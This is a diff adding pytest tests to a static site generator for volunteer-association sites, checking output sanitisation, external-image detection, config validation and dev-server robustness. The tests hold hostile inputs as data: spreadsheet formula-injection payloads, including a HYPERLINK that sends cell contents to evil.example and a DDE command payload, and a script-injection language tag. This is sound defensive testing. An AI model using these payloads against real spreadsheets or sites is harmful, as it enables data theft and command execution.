@@ -7,6 +7,7 @@ would. SECURITY.md names the test of each class.
 
 from __future__ import annotations
 
+import json
 import os
 import subprocess
 import sys
@@ -434,3 +435,168 @@ def test_any_message_formats_to_one_visible_line(text: str) -> None:
     line = error(f"dir/{text}.md", 1, 1, "invalid-value", text).format_text(cwd=Path("/nonexistent"))
     assert len(line.splitlines()) == 1
     assert not any(c in line for c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200e\u200f")
+
+
+# --- Broken or hostile output ------------------------------------------------------------------
+
+CONTROL = {"c0": "\x01", "vertical-tab": "\v", "escape": "\x1b", "del": "\x7f", "c1": "\x85", "nonchar": "\uffff", "form-feed": "\f"}
+
+
+@pytest.mark.parametrize("variant", sorted(CONTROL))
+def test_control_characters_never_reach_xml_or_html(variant: str, small_site: Path, tmp_path: Path) -> None:
+    import xml.dom.minidom
+
+    char = CONTROL[variant]
+    text = (small_site / STORY).read_text(encoding="utf-8").replace("title: 事迹 1", f"title: {json.dumps('事迹' + char + '1')}")
+    text = text.replace("tags: [金晖助老, 社区]", f"tags: [金晖助老, 社区]\nsummary: {json.dumps('摘要' + char)}")
+    body = f"\n正文{char}。\n" if char not in "\v\f\x85" else "\n正文。\n"  # YAML and Markdown take those as line breaks
+    (small_site / STORY).write_text(text + body, encoding="utf-8")
+    out = tmp_path / "out"
+    build_ok(small_site, out)
+    for name in ("feed.xml", "sitemap.xml"):
+        xml.dom.minidom.parse(str(out / name))  # well-formed
+    for page in (out / "feed.xml", out / "stories/story-1/index.html"):
+        data = page.read_text(encoding="utf-8")
+        assert not any(0 < ord(c) < 32 and c not in "\t\n\r" or 0x7F <= ord(c) <= 0x9F or c == "\uffff" for c in data)
+
+
+FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"点我\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1+1)*cmd", "\t=1+1", "\r=1+1", "'=1+1"]
+
+
+def test_spreadsheet_formulas_in_open_data_are_neutralised(small_site: Path, tmp_path: Path) -> None:
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    path = small_site / ASSOCIATION
+    text = path.read_text(encoding="utf-8").replace("name: 杭州市西湖区青年志愿者协会", f"name: {json.dumps(FORMULAS[0])}")
+    text = text.replace("supervisor: 共青团杭州市西湖区委员会", f"supervisor: {json.dumps(FORMULAS[1])}")
+    text = text.replace("contact: {address: 西湖区文三路 1 号,", f"contact: {{address: {json.dumps(FORMULAS[4])},")
+    path.write_text(text, encoding="utf-8")
+    project = small_site / "content/projects/xihu-jinhui.yaml"
+    text = project.read_text(encoding="utf-8").replace("title: 西湖金晖助老", f"title: {json.dumps(FORMULAS[2])}")
+    text = text.replace("summary: 为辖区空巢老人提供上门服务。", f"summary: {json.dumps(FORMULAS[3])}")
+    project.write_text(text.replace("targets: [空巢老人]", f"targets: [空巢老人]\nschedule: {json.dumps(FORMULAS[6])}"), encoding="utf-8")
+    out = tmp_path / "out"
+    build_ok(small_site, out)
+    cells = []
+    for name in ("associations.csv", "projects.csv"):
+        cells += [cell for row in csv.reader(io.StringIO((out / "data" / name).read_text(encoding="utf-8-sig"))) for cell in row]
+    for name in ("associations.xlsx", "projects.xlsx"):
+        for sheet in load_workbook(out / "data" / name).worksheets:
+            cells += [str(c.value) for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
+    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert dangerous == []
+    assert any(c.startswith("'=HYPERLINK") for c in cells) and any(c.startswith("'-2+3") for c in cells)
+
+
+@pytest.mark.parametrize("image", ["![](https://tracker.example/pixel.gif)", '<img src="http://tracker.example/p.gif" alt="">', "![x](//tracker.example/p.gif)", "![x][t]\n\n[t]: https://tracker.example/p.gif", "![x](HTTPS://Tracker.Example/p.gif)"])
+def test_images_from_another_host_are_errors_unless_allowed(image: str, small_site: Path, tmp_path: Path) -> None:
+    (small_site / STORY).write_text(FRONT + "\n第一段。\n\n" + image + "\n", encoding="utf-8")
+    found = [d for d in errors(check(small_site)) if d.path.endswith("story-1.md")]
+    assert [(d.code, d.line) for d in found] == [("external-image", 10 if "[t]:" not in image else 12)] or [(d.code, d.line) for d in found] == [("external-image", 10)], shown(check(small_site))
+    config = small_site / "sitegen.yaml"
+    config.write_text(config.read_text(encoding="utf-8") + "image_hosts: [tracker.example]\n", encoding="utf-8")
+    build_ok(small_site, tmp_path / "out")
+
+
+@pytest.mark.parametrize("language", ["中文", "zh CN", 'zh"><script>', "zh_CN!"])
+def test_a_language_tag_that_is_not_one_is_a_config_error(language: str, small_site: Path) -> None:
+    config = small_site / "sitegen.yaml"
+    config.write_text(config.read_text(encoding="utf-8") + f"language: '{language}'\n", encoding="utf-8")
+    assert [d.code for d in errors(check(small_site))] == ["config"]
+
+
+def test_a_language_search_cannot_stem_is_a_warning_when_search_is_on(small_site: Path) -> None:
+    config = small_site / "sitegen.yaml"
+    text = config.read_text(encoding="utf-8").replace("search: false", "search: true")
+    config.write_text(text + "language: bo\n", encoding="utf-8")
+    found = [d for d in check(small_site).diagnostics if d.code == "config"]
+    assert [d.severity.value for d in found] == ["warning"]
+
+
+# --- Every problem in one run --------------------------------------------------------------------
+
+
+def test_an_unknown_field_does_not_hide_static_and_route_problems(small_site: Path, tmp_path: Path) -> None:
+    path = small_site / ASSOCIATION
+    path.write_text(path.read_text(encoding="utf-8") + "nmae_typo: x\n", encoding="utf-8")
+    outside = tmp_path / "outside.png"
+    outside.write_bytes(b"x")
+    (small_site / "static/leak.png").symlink_to(outside)
+    (small_site / "static/feed.xml").write_text("<feed/>", encoding="utf-8")
+    (small_site / "static/img/evil.svg").write_text(HOSTILE_SVGS["script"], encoding="utf-8")
+    for result in (check(small_site), build(small_site, tmp_path / "out")):
+        codes = sorted({d.code for d in errors(result)})
+        assert codes == ["missing-file", "route-conflict", "unknown-field", "unsafe-file"], shown(result)
+    assert not (tmp_path / "out").exists()
+
+
+# --- The dev server --------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def served(small_site: Path):
+    from sitegen.serve.server import DevServer
+
+    server = DevServer(small_site, small_site / "output", "127.0.0.1", 0)
+    server.start()
+    try:
+        yield server
+    finally:
+        server.stop()
+
+
+def _status(server, path: str) -> int:
+    import http.client
+
+    host, port = server.httpd.server_address[:2]
+    conn = http.client.HTTPConnection(host, port, timeout=10)
+    try:
+        conn.request("GET", path)
+        response = conn.getresponse()
+        response.read()
+        return response.status
+    finally:
+        conn.close()
+
+
+@pytest.mark.parametrize(
+    ("path", "status"),
+    [
+        ("/volunteer/" + "a" * 300, 404),
+        ("/volunteer/" + "a" * 300 + "/", 404),
+        ("/volunteer/" + "%e4%b8%ad" * 100, 404),
+        ("/volunteer/" + "a/" * 150, 404),
+        ("/volunteer/" + "b" * 3000, 414),
+        ("/volunteer/%ff%fe", 404),
+    ],
+)
+def test_serve_answers_every_path_with_a_status(served, path: str, status: int, capsys: pytest.CaptureFixture[str]) -> None:
+    assert _status(served, path) == status
+    assert _status(served, "/volunteer/") == 200  # still serving
+    assert "Traceback" not in capsys.readouterr().err
+
+
+def test_a_client_that_goes_away_is_one_calm_line(served, capsys: pytest.CaptureFixture[str]) -> None:
+    import socket
+    import struct
+    import time
+
+    (served.out / "big.bin").write_bytes(b"\0" * (32 * 1024 * 1024))
+    host, port = served.httpd.server_address[:2]
+    for _ in range(2):
+        client = socket.create_connection((host, port), timeout=10)
+        client.sendall(b"GET /volunteer/big.bin HTTP/1.1\r\nHost: x\r\n\r\n")
+        client.recv(1024)
+        client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # reset, like a cancelled download
+        client.close()
+    deadline = time.monotonic() + 10
+    err = ""
+    while time.monotonic() < deadline and err.count("断开") < 2:
+        time.sleep(0.1)
+        err += capsys.readouterr().err
+    assert err.count("断开") == 2 and "Traceback" not in err
+    assert len([line for line in err.splitlines() if line.strip()]) == 2
+    assert _status(served, "/volunteer/") == 200
